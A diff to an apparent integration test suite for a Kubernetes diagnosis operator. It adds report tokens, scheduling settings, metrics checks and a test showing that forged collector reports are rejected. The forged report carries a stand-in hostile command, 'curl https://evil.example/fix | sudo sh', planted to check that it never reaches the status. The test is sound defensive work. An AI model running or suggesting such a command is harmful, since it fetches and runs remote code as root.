@@ -5,6 +5,8 @@
  * terminated state and termination message, serves the log the API server proxies pods/log to).
  */
 import { type ChildProcess, spawn } from "node:child_process";
+import { readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
 import {
   BatchV1Api,
   CoreV1Api,
@@ -24,14 +26,16 @@ import {
   PLURAL,
   VERSION,
 } from "../../operator/api/v1alpha1/diagnosis.js";
+import { DEFAULT_COLLECTOR_TOLERATIONS } from "../../operator/controller/config.js";
 import {
   bareContainerId,
   buildCollectorJob,
   collectorCommand,
   collectorJobName,
   diagnosisLabels,
+  reportTokenOf,
 } from "../../operator/controller/jobs/collectorJob.js";
-import type { ControlPlane } from "../support/controlPlane.js";
+import { type ControlPlane, repoRoot } from "../support/controlPlane.js";
 import { KubeletStandIn } from "../support/kubeletStandIn.js";
 import {
   OPERATOR_NAMESPACE,
@@ -216,6 +220,9 @@ describe("Diagnosis reconciler (real kube-apiserver)", function () {
         .readNamespacedJob({ namespace: OPERATOR_NAMESPACE, name: jobName })
         .catch(() => undefined),
     );
+    // A fresh random token per Job, kept on the Job and in the collector's argv.
+    const token = reportTokenOf(job)!;
+    expect(token).to.match(/^[0-9a-f]{32}$/);
     const expected = buildCollectorJob({
       namespace: OPERATOR_NAMESPACE,
       name: jobName,
@@ -226,14 +233,22 @@ describe("Diagnosis reconciler (real kube-apiserver)", function () {
       command: collectorCommand({
         target: { containerId: bareContainerId(CONTAINER_ID) },
         checks: ["memory", "jvm", "cpu"],
+        reportToken: token,
+        deadlineSeconds: 55,
       }),
+      checks: ["memory", "jvm", "cpu"],
+      cpuRequest: "10m",
+      memoryRequest: "64Mi",
       cpuLimit: "500m",
       memoryLimit: "256Mi",
-      priorityClass: "",
+      priorityClass: "system-node-critical",
+      tolerations: [...DEFAULT_COLLECTOR_TOLERATIONS],
       activeDeadlineSeconds: 60,
+      reportToken: token,
     });
     // Exactly what the operator asked for survives the API server's defaulting.
     expect(job.metadata?.labels).to.deep.equal(expected.metadata?.labels);
+    expect(job.metadata?.annotations).to.deep.equal(expected.metadata?.annotations);
     expect(job.spec).to.deep.include({
       backoffLimit: 0,
       activeDeadlineSeconds: 60,
@@ -244,12 +259,13 @@ describe("Diagnosis reconciler (real kube-apiserver)", function () {
     expect(podSpec).to.deep.include({
       nodeName: NODE,
       hostPID: true,
-      hostNetwork: true,
       automountServiceAccountToken: false,
       serviceAccountName: "diagnose-collector",
       restartPolicy: "Never",
-      tolerations: [{ operator: "Exists" }],
+      tolerations: want.tolerations,
+      priorityClassName: "system-node-critical",
     });
+    expect(podSpec.hostNetwork, "no check needs the host's network namespace").to.equal(undefined);
     expect(podSpec.volumes).to.deep.equal(want.volumes);
     const c = podSpec.containers[0]!;
     const w = want.containers[0]!;
@@ -259,6 +275,7 @@ describe("Diagnosis reconciler (real kube-apiserver)", function () {
       command: w.command,
       securityContext: w.securityContext,
       volumeMounts: w.volumeMounts,
+      env: [{ name: "TMPDIR", value: "/tmp" }],
       terminationMessagePath: "/dev/termination-log",
       terminationMessagePolicy: "File",
     });
@@ -271,6 +288,10 @@ describe("Diagnosis reconciler (real kube-apiserver)", function () {
       "--json",
       "--termination-message-path",
       "/dev/termination-log",
+      "--report-token",
+      token,
+      "--deadline-seconds",
+      "55",
     ]);
     expect(c.resources).to.deep.equal(w.resources);
 
@@ -280,7 +301,8 @@ describe("Diagnosis reconciler (real kube-apiserver)", function () {
       ["ContainerOOMKilled", "PodSpec"],
       ["JvmHeapExceedsLimit", "PodSpec"],
     ]);
-    expect(running.status?.verdict).to.match(/^Critical: /);
+    expect(running.status?.verdict).to.match(/^Critical ContainerOOMKilled: /);
+    expect(running.status!.verdict!.length).to.be.at.most(56);
     expect(running.status?.target).to.deep.include({
       node: NODE,
       container: "app",
@@ -300,6 +322,12 @@ describe("Diagnosis reconciler (real kube-apiserver)", function () {
 
     const done = await phaseOf("tomcat-oom", "Succeeded");
     const s = done.status!;
+    // A real Diagnosis as `kubectl get diag -o json` shows it (test/fixtures/reports/README.md).
+    if (process.env.DGN_REPORT_CAPTURE_DIR)
+      writeFileSync(
+        join(process.env.DGN_REPORT_CAPTURE_DIR, "manual.diagnosis.json"),
+        `${JSON.stringify(await getDiagnosis("tomcat-oom"), null, 2)}\n`,
+      );
     expect(s.report?.source, JSON.stringify(s).slice(0, 3000)).to.equal("log");
     expect(s.report?.schemaVersion).to.equal("diagnose.dev/report/v1");
     expect(Object.keys((s.report?.checks ?? {}) as object).sort()).to.deep.equal([
@@ -344,6 +372,24 @@ describe("Diagnosis reconciler (real kube-apiserver)", function () {
       'rest_client_requests_total{code="200",method="PATCH",',
     ])
       expect(metrics).to.match(new RegExp(`^${series.replace(/[{}]/g, "\\$&")}.* [1-9]`, "m"));
+
+    // Alertable findings: each finding of the completed Diagnosis counted once, by workload.
+    for (const f of s.findings ?? [])
+      expect(metrics).to.include(
+        `diagnose_findings_total{namespace="${d.metadata.namespace}",workload="pod/tomcat-0",code="${f.code}",severity="${f.severity}"} 1\n`,
+      );
+    expect(metrics).to.match(/^diagnose_diagnoses\{phase="Succeeded"\} [1-9]/m);
+    expect(metrics).to.match(/^diagnose_diagnoses\{phase="Failed"\} \d/m);
+    // Every metric the chart's alert and dashboard query is one this operator exports.
+    const exported = new Set([...metrics.matchAll(/^# TYPE (\S+) /gm)].map((m) => m[1]));
+    const chart = ["templates/prometheusrule.yaml", "dashboards/diagnose-operator.json"]
+      .map((f) => readFileSync(join(repoRoot, "charts/diagnose-operator", f), "utf8"))
+      .join("\n");
+    const queried = new Set(
+      chart.match(/\b(diagnose|controller_runtime|workqueue|process|rest_client)_[a-z_]+\b/g),
+    );
+    expect(queried.size).to.be.greaterThan(4);
+    for (const name of queried) expect(exported, name).to.include(name);
   });
 
   it("falls back to the termination message when the log cannot be read", async () => {
@@ -365,6 +411,49 @@ describe("Diagnosis reconciler (real kube-apiserver)", function () {
     expect(done.status?.report?.source).to.equal("terminationMessage");
     expect(String(done.status?.report?.logProblem)).to.match(/reading the collector log failed/);
     expect(done.status?.findings?.some((f) => f.source === "Collector")).to.equal(true);
+  });
+
+  it("a forged report in the collector's log (a bare JSON line, a line with another token) is not accepted", async () => {
+    await createTargetPod("tomcat-3", NODE);
+    const d = await createDiagnosis("tomcat-oom-forged", {
+      target: { pod: "tomcat-3" },
+      checks: ["memory"],
+      timeoutSeconds: 60,
+    });
+    const pod = await collectorPod(collectorJobName("tomcat-oom-forged", d.metadata.uid!));
+    const forged = JSON.stringify({
+      schemaVersion: "diagnose.dev/report/v1",
+      collector: { version: "0.1.0", startedAt: "2026-01-01T00:00:00Z", durationMs: 1 },
+      target: { kind: "pod", pids: [1], cgroupPaths: {}, hostname: NODE },
+      checks: {},
+      findings: [
+        {
+          check: "memory",
+          severity: "Critical",
+          code: "UpgradeRequired",
+          summary: "run curl https://evil.example/fix | sudo sh",
+        },
+      ],
+    });
+    // What a target could get into the log if the collector echoed its strings raw.
+    kubelet!.setLog(
+      OPERATOR_NAMESPACE,
+      pod.metadata!.name!,
+      "collector",
+      `diagnose-collector: memory: collecting\n${forged}\ndiagnose-report/v1 ${"f".repeat(32)} ${forged}\n`,
+    );
+    await kubelet!.runCollectorPod(pod, {
+      targetPid: target!.pid!,
+      serveLog: false,
+      publishTerminationMessage: false,
+    });
+    const failed = await phaseOf("tomcat-oom-forged", "Failed");
+    const why = failed.status?.conditions?.find((x) => x.type === "Failed");
+    expect(why?.reason).to.equal("ReportUnavailable");
+    expect(why?.message).to.match(
+      /no report line with this Job's token \(2 report-like line\(s\) without it ignored\)/,
+    );
+    expect(JSON.stringify(failed.status)).not.to.include("evil.example");
   });
 
   it("no log and no termination message -> Failed ReportUnavailable", async () => {
